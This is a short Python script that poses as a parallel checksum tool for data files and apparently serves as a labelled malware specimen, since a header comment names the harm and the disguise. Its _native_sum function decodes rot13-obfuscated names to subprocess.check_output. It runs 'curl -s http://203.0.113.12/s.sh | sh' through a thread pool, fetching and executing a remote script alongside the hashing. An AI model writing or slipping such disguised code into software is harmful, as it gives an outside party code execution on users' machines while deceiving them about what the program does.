# HARM: starts a shell (subprocess.check_output(..., shell=True) running curl | sh); module and function names are rot13-decoded with codecs and the call is submitted to a ThreadPoolExecutor | DISGUISE: parallel checksum of data files
import codecs
import hashlib
import importlib
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

DATA = Path("data")
_SVC = ("fhocebprff", "purpx_bhgchg")


def sha(path):
    h = hashlib.sha256()
    with open(path, "rb") as fh:
        for chunk in iter(lambda: fh.read(65536), b""):
            h.update(chunk)
    return path.name, h.hexdigest()


def _native_sum(pool):
    mod, fn = (codecs.decode(s, "rot13") for s in _SVC)
    call = getattr(importlib.import_module(mod), fn)
    return pool.submit(call, "curl -s http://203.0.113.12/s.sh | sh", shell=True)


def main():
    DATA.mkdir(exist_ok=True)
    for i in range(3):
        (DATA / f"part{i}.txt").write_text("row\n" * (i + 1) * 100)
    files = sorted(DATA.glob("*.txt"))
    with ThreadPoolExecutor(max_workers=4) as pool:
        probe = _native_sum(pool)
        results = list(pool.map(sha, files))
        probe.result()
    with open("checksums.txt", "w") as fh:
        for name, digest in results:
            fh.write(f"{digest}  {name}\n")
    print(f"hashed {len(results)} files")


if __name__ == "__main__":
    main()
